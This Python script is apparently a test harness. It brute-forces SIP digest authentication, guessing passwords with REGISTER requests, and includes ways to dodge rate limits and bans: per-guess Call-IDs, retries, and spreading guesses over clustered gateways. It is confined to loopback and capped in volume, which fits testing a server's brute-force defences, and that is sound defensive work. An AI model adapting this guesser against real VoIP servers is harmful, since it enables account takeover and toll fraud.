#!/usr/bin/env python3
"""A patient password guesser doing real digest (RFC 7616, MD5, qop=auth) over UDP.

usage: digest_guesser.py SRC_IP DST_PORT USER [--mode paced|new-call-id] [--guesses N]
                         [--seconds S] [--gap-ms N] [--silence-ms N] [--give-up-ms N]
                         [--password-file F] [--targets HOST:PORT,HOST:PORT...]

paced:        one Call-ID, CSeq rising by one per request, as a phone retries; an
              unanswered guess (rate limit or ban) is sent again after --silence-ms with
              the next CSeq, until --give-up-ms of silence in a row.
new-call-id:  every guess on a fresh Call-ID and From tag (a REGISTER without
              credentials first, for a nonce), the same waiting.
--targets:    guess i goes to target i modulo their count (a cluster of gateways; each
              guess fetches its own challenge from its target, as nonces are per node);
              DST_PORT is then ignored. Prints "answered_at_HOST:PORT=N" per target too.
A fresh challenge in an answer gives the next guess its nonce (nc 1); otherwise the last
nonce is used again with the next nc. Passwords are guess-1, guess-2... or the lines of
--password-file. Prints "answered=N" (guesses that got a final answer: the attacker
learned whether they were right), "sent=N", "codes=..." and "cracked=PASSWORD" on a 200.
Loopback only; bounded by --guesses and --seconds.
"""
import argparse
import hashlib
import os
import re
import socket
import sys
import time


def md5(text):
    return hashlib.md5(text.encode()).hexdigest()


class Guesser:
    def __init__(self, a):
        self.a = a
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((a.src, 0))
        self.port = self.sock.getsockname()[1]
        self.targets = [("127.0.0.1", a.dst_port)]
        if a.targets:
            self.targets = [(t.rsplit(":", 1)[0], int(t.rsplit(":", 1)[1])) for t in a.targets.split(",")]
        self.aim(0)
        self.cseq = 0
        self.call_n = 0
        self.new_call()
        self.nonce = None
        self.realm = None
        self.nc = 0

    def aim(self, i):
        self.dst = self.targets[i % len(self.targets)]
        self.ruri = f"sip:{self.dst[0]}:{self.dst[1]}"

    def new_call(self):
        self.call_n += 1
        self.call_id = f"guess-{os.getpid()}-{self.call_n}"
        self.tag = f"t{os.getpid()}x{self.call_n}"

    def request(self, auth):
        self.cseq += 1
        u = self.a.user
        lines = [
            f"REGISTER {self.ruri} SIP/2.0",
            f"Via: SIP/2.0/UDP {self.a.src}:{self.port};branch=z9hG4bK-g{self.call_n}-{self.cseq};rport",
            "Max-Forwards: 70",
            f"From: <sip:{u}@127.0.0.1>;tag={self.tag}",
            f"To: <sip:{u}@127.0.0.1>",
            f"Call-ID: {self.call_id}",
            f"CSeq: {self.cseq} REGISTER",
            f"Contact: <sip:{u}@{self.a.src}:{self.port}>",
            "Expires: 60",
            "User-Agent: it-guesser",
        ]
        if auth:
            lines.append(auth)
        return ("\r\n".join(lines) + "\r\nContent-Length: 0\r\n\r\n").encode()

    def credentials(self, password):
        self.nc += 1
        nc = f"{self.nc:08x}"
        cnonce = os.urandom(8).hex()
        ha1 = md5(f"{self.a.user}:{self.realm}:{password}")
        ha2 = md5(f"REGISTER:{self.ruri}")
        resp = md5(f"{ha1}:{self.nonce}:{nc}:{cnonce}:auth:{ha2}")
        return (
            f'Authorization: Digest username="{self.a.user}", realm="{self.realm}", '
            f'nonce="{self.nonce}", uri="{self.ruri}", response="{resp}", algorithm=MD5, '
            f'qop=auth, nc={nc}, cnonce="{cnonce}"'
        )

    def exchange(self, data, deadline):
        """Sends `data` and returns the final status and text, or (None, None) on silence."""
        self.sock.sendto(data, self.dst)
        cseq = f"CSeq: {self.cseq} REGISTER"
        while True:
            left = min(deadline, time.monotonic() + self.a.silence_ms / 1000.0) - time.monotonic()
            if left <= 0:
                return None, None
            self.sock.settimeout(left)
            try:
                text = self.sock.recv(65535).decode("utf-8", "replace")
            except socket.timeout:
                return None, None
            m = re.match(r"SIP/2\.0 (\d{3})", text)
            if m and cseq in text and int(m.group(1)) >= 200:
                return int(m.group(1)), text

    def take_challenge(self, text):
        m = re.search(r'(?im)^WWW-Authenticate: Digest (.*algorithm=MD5.*)$', text)
        if not m:
            return False
        self.nonce = re.search(r'nonce="([^"]*)"', m.group(1)).group(1)
        self.realm = re.search(r'realm="([^"]*)"', m.group(1)).group(1)
        self.nc = 0
        return True


def main():
    p = argparse.ArgumentParser()
    p.add_argument("src")
    p.add_argument("dst_port", type=int)
    p.add_argument("user")
    p.add_argument("--mode", choices=["paced", "new-call-id"], default="paced")
    p.add_argument("--guesses", type=int, default=40)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--gap-ms", type=float, default=50)
    p.add_argument("--silence-ms", type=float, default=700)
    p.add_argument("--give-up-ms", type=float, default=5000)
    p.add_argument("--password-file")
    p.add_argument("--targets")
    a = p.parse_args()
    if not a.src.startswith("127.") or any(
            not t.startswith("127.") for t in (a.targets or "127.").split(",")):
        sys.exit("loopback only")
    a.guesses = min(a.guesses, 1000)
    words = [f"guess-{i}" for i in range(1, a.guesses + 1)]
    if a.password_file:
        with open(a.password_file, encoding="utf-8") as f:
            words = [w.strip() for w in f if w.strip()][: a.guesses]
    g = Guesser(a)
    deadline = time.monotonic() + a.seconds
    answered = sent = 0
    codes = []
    silent_since = None
    i = 0
    per_target = {}
    while i < len(words) and time.monotonic() < deadline:
        if len(g.targets) > 1 and g.dst != g.targets[i % len(g.targets)]:
            g.aim(i)
            g.nonce = None
        if g.nonce is None or a.mode == "new-call-id":
            if a.mode == "new-call-id":
                g.new_call()
            code, text = g.exchange(g.request(None), deadline)
            if code is None or not g.take_challenge(text):
                silent_since = silent_since or time.monotonic()
                if (time.monotonic() - silent_since) * 1000 > a.give_up_ms:
                    break
                continue
        code, text = g.exchange(g.request(g.credentials(words[i])), deadline)
        sent += 1
        if code is None:
            silent_since = silent_since or time.monotonic()
            if (time.monotonic() - silent_since) * 1000 > a.give_up_ms:
                break
            continue  # the same password again, with the next CSeq
        silent_since = None
        answered += 1
        where = f"{g.dst[0]}:{g.dst[1]}"
        per_target[where] = per_target.get(where, 0) + 1
        codes.append(str(code))
        if code == 200:
            print(f"cracked={words[i]}")
            break
        if code in (401, 407):
            g.take_challenge(text)
        i += 1
        time.sleep(a.gap_ms / 1000.0)
    print(f"answered={answered}")
    print(f"sent={sent}")
    print(f"codes={','.join(codes)}")
    if len(g.targets) > 1:
        for where, n in sorted(per_target.items()):
            print(f"answered_at_{where}={n}")


if __name__ == "__main__":
    main()
